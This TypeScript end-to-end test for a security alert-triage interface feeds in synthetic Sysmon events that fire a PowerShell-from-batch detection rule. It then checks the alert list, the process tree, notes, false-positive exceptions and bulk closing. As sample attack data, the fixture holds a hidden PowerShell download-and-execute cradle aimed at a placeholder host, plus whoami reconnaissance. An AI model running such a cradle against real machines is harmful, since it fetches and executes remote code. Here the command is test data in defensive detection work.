/**
 * Triaging alerts as an analyst does: events fire the shipped "PowerShell Started By A Batch Script"
 * rule on three hosts; the list shows them, the alert page shows the process tree and timeline, a
 * note and an acknowledge are recorded, a value becomes a false-positive exception and the next
 * matching batch raises nothing, and the rest are closed in bulk. Steps run in order on one page.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { screenshot, startUiSession, type UiSession } from "../support/ui-session.ts";

const RULE_ID = "753e4a37-d323-41a8-b0c4-79a0b0b31a3e";
const RULE_TITLE = "PowerShell Started By A Batch Script";
const HOSTS = ["WS01", "WS02", "WS03"];
const POWERSHELL_COMMAND = "powershell.exe -nop -w hidden -c iex(new-object net.webclient).downloadstring('http://x')";

const utc = (ms: number) => new Date(ms).toISOString().replace("T", " ").replace("Z", "");

const SECOND = 1000;
const MINUTE = 60 * SECOND;

/**
 * explorer writes a .bat, cmd runs it, powershell starts from it (firing the rule) and runs whoami
 * and connects out; a DNS query from another process before. `at` is the powershell start.
 */
function batchChain(host: string, at: number, run: number) {
  const guid = (n: number) => `{7e57${run}000-0000-0000-0000-${String(n).padStart(12, "0")}}`;
  const sysmon = (eventId: number, offset: number, fields: Record<string, unknown>) => ({
    Channel: "Microsoft-Windows-Sysmon/Operational",
    EventID: eventId,
    Computer: host,
    UtcTime: utc(at + offset),
    User: "CORP\\bob",
    ...fields,
  });
  const cmdLine = "cmd.exe /c C:\\Users\\bob\\update.bat";
  const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  return [
    sysmon(22, -5 * MINUTE, {
      Image: "C:\\Windows\\System32\\svchost.exe",
      ProcessGuid: guid(9),
      ProcessId: 900,
      QueryName: "updates.example.com",
    }),
    sysmon(11, -2 * MINUTE, {
      Image: "C:\\Windows\\explorer.exe",
      ProcessGuid: guid(1),
      ProcessId: 1200,
      TargetFilename: "C:\\Users\\bob\\update.bat",
    }),
    sysmon(1, -90 * SECOND, {
      Image: "C:\\Windows\\System32\\cmd.exe",
      CommandLine: cmdLine,
      ProcessGuid: guid(2),
      ProcessId: 4100,
      ParentImage: "C:\\Windows\\explorer.exe",
      ParentCommandLine: "C:\\Windows\\Explorer.EXE",
      ParentProcessGuid: guid(1),
      ParentProcessId: 1200,
    }),
    sysmon(1, 0, {
      Image: powershell,
      CommandLine: POWERSHELL_COMMAND,
      ProcessGuid: guid(3),
      ProcessId: 4200,
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
      ParentCommandLine: cmdLine,
      ParentProcessGuid: guid(2),
      ParentProcessId: 4100,
    }),
    sysmon(1, 30 * SECOND, {
      Image: "C:\\Windows\\System32\\whoami.exe",
      CommandLine: "whoami /all",
      ProcessGuid: guid(4),
      ProcessId: 4300,
      ParentImage: powershell,
      ParentProcessGuid: guid(3),
      ParentProcessId: 4200,
    }),
    sysmon(3, 75 * SECOND, {
      Image: powershell,
      ProcessGuid: guid(3),
      ProcessId: 4200,
      SourceIp: "10.0.0.5",
      SourcePort: 50100,
      DestinationIp: "198.51.100.7",
      DestinationPort: 80,
    }),
  ];
}

interface ListedAlert {
  id: number;
  host: string;
  count: number;
  status: string;
}

describe("alerts pages", () => {
  let ui: UiSession;
  let agent: string;
  let alertId = 0;
  const page = () => ui.page;

  const ruleAlerts = async () =>
    (await ui.admin.call<{ alerts: ListedAlert[] }>("GET", `/alerts?rule=${RULE_ID}`)).alerts;

  beforeAll(async () => {
    ui = await startUiSession();
    agent = await ui.admin.createAgentToken("workstations");
    const now = Date.now();
    for (const [i, host] of HOSTS.entries()) await ui.admin.ingest(agent, batchChain(host, now - 3 * MINUTE + i, 1));
    await ui.admin.createUser("alex", "analyst-password-123", "analyst");
    await ui.signIn("alex", "analyst-password-123");
  });

  afterAll(async () => {
    await ui?.close();
  });

  test("the list shows each alert's level, rule, host, count, times, status and assignee, filtered by URL", async () => {
    await page().goto(ui.url(`/alerts?rule=${RULE_ID}`));
    const table = page().getByRole("table", { name: "Alerts" });
    await expect.poll(() => table.locator("tbody tr").count()).toBe(3);
    expect(await table.getByRole("columnheader").allTextContents()).toEqual([
      "",
      "Level",
      "Rule",
      "Host",
      "Count",
      "First seen",
      "Last seen",
      "Status",
      "Assignee",
    ]);
    expect(await table.locator("tbody tr").first().textContent()).toContain(RULE_TITLE);
    await screenshot(page(), "alerts");

    await page().getByLabel("Host").fill("WS01");
    await page().getByLabel("Host").press("Enter");
    await page().waitForURL(ui.url(`/alerts?rule=${RULE_ID}&host=WS01`));
    await expect.poll(() => table.locator("tbody tr").count()).toBe(1);
    await page().getByLabel("Minimum level").selectOption("high");
    await page().waitForURL(/level=high/);
    await page().getByText("No alerts match these filters.").waitFor();
    await page().goBack();
    await expect.poll(() => table.locator("tbody tr").count()).toBe(1);
  });

  test("the alert page shows the rule with its ATT&CK techniques, the process tree and the timeline", async () => {
    // The count cell: the rule and host cells hold their own value menus.
    await page().getByRole("table", { name: "Alerts" }).locator("tbody tr td:nth-child(5)").first().click();
    await page().waitForURL(/\/alerts\/\d+$/);
    alertId = Number(new URL(page().url()).pathname.split("/").pop());
    await page().getByRole("heading", { level: 1, name: RULE_TITLE }).waitFor();

    const technique = page().getByRole("link", { name: "T1059.001" });
    expect(await technique.getAttribute("href")).toBe("https://attack.mitre.org/techniques/T1059/001/");
    expect(await page().getByRole("link", { name: RULE_TITLE }).getAttribute("href")).toBe(`/rules/${RULE_ID}`);
    await page().getByText("Detects PowerShell launched by cmd.exe").waitFor();

    const tree = page().locator(".process-tree svg");
    await tree.waitFor();
    expect(await tree.getAttribute("aria-label")).toBe("Process tree: explorer.exe → cmd.exe → powershell.exe");
    expect(await tree.locator(".tree-name").allTextContents()).toEqual([
      "explorer.exe · pid 1200 · +1 event",
      "cmd.exe · pid 4100 · CORP\\bob",
      "powershell.exe · pid 4200 · CORP\\bob · +1 event",
      "whoami.exe · pid 4300 · CORP\\bob",
    ]);
    expect(await tree.locator(".tree-node.focus .tree-name").textContent()).toContain("powershell.exe");
    expect(await page().locator(".timeline .timeline-point").count()).toBe(6);
    expect(await page().locator(".timeline .timeline-point.matched").count()).toBe(1);
    expect(await page().locator(".timeline .timeline-label").allTextContents()).toEqual([
      "process_creation (3)",
      "dns_query (1)",
      "file_event (1)",
      "network_connection (1)",
    ]);
  });

  test("a note and an acknowledge are recorded with who made them", async () => {
    await page().getByLabel("New note").fill("Update script from IT? Checking with the helpdesk.");
    await page().getByRole("button", { name: "Add note" }).click();
    await page().locator(".note-text", { hasText: "Checking with the helpdesk." }).waitFor();
    await page().getByRole("button", { name: "Acknowledge" }).click();
    const history = page().locator(".history-list");
    await history.getByText("alex changed the status from open to acknowledged").waitFor();
    await page().getByRole("button", { name: "Assign to me" }).click();
    await history.getByText("alex assigned it to alex").waitFor();
    expect(await page().locator(".alert-badges .badge").allTextContents()).toContain("acknowledged");
    await page().evaluate(() => window.scrollTo(0, 0));
    await screenshot(page(), "alert");
  });

  test("a value added to the false-positive filter keeps the next matching batch from alerting", async () => {
    const commandRow = page().locator(".field-table tr", { has: page().locator("th", { hasText: /^CommandLine$/ }) });
    await commandRow.getByRole("button").click();
    await page().getByRole("menuitem", { name: "Add to false-positive filter" }).click();
    const dialog = page().getByRole("dialog", { name: "Add to the false-positive filter" });
    await dialog.getByText("This rule only").waitFor();
    await dialog.getByRole("button", { name: "Add exception" }).click();
    await page().getByText("Added CommandLine = ").waitFor();

    const before = await ruleAlerts();
    const answer = await ui.admin.ingest(agent, batchChain("WS01", Date.now() - MINUTE, 2));
    expect(answer.status).toBe("stored");
    const after = await ruleAlerts();
    expect(after.map((a) => [a.id, a.count])).toEqual(before.map((a) => [a.id, a.count]));
    const { exceptions } = await ui.admin.call<{ exceptions: { value: string; rule_id: string; hits: number }[] }>(
      "GET",
      "/exceptions",
    );
    expect(exceptions).toEqual([expect.objectContaining({ value: POWERSHELL_COMMAND, rule_id: RULE_ID, hits: 1 })]);

    await page().goto(ui.url(`/alerts?rule=${RULE_ID}&status=all`));
    const table = page().getByRole("table", { name: "Alerts" });
    await expect.poll(() => table.locator("tbody tr").count()).toBe(3);
    expect(await table.locator("tbody tr td:nth-child(5)").allTextContents()).toEqual(["1", "1", "1"]);
  });

  test("selected alerts are closed in bulk after a confirmation", async () => {
    await page().goto(ui.url(`/alerts?rule=${RULE_ID}`));
    const table = page().getByRole("table", { name: "Alerts" });
    await expect.poll(() => table.locator("tbody tr").count()).toBe(3);
    await page().getByLabel("Select every alert shown").check();
    await page().getByRole("toolbar", { name: "Selected alerts" }).getByRole("button", { name: "Close" }).click();
    await page().getByRole("dialog", { name: "Close alerts" }).getByRole("button", { name: "Close alerts" }).click();
    await page().getByText("Closed 3 alerts.").waitFor();
    await page().getByText("No alerts match these filters.").waitFor();
    expect((await ruleAlerts()).map((a) => a.status)).toEqual(["closed", "closed", "closed"]);

    const detail = await ui.admin.call<{ alert: { history: { actor: string; from: string; to: string }[] } }>(
      "GET",
      `/alerts/${alertId}`,
    );
    expect(detail.alert.history.filter((h) => h.to === "closed")).toEqual([
      expect.objectContaining({ actor: "alex", from: "acknowledged" }),
    ]);
    expect(ui.problems).toEqual({ errors: [], dialogs: [] });
  });
});
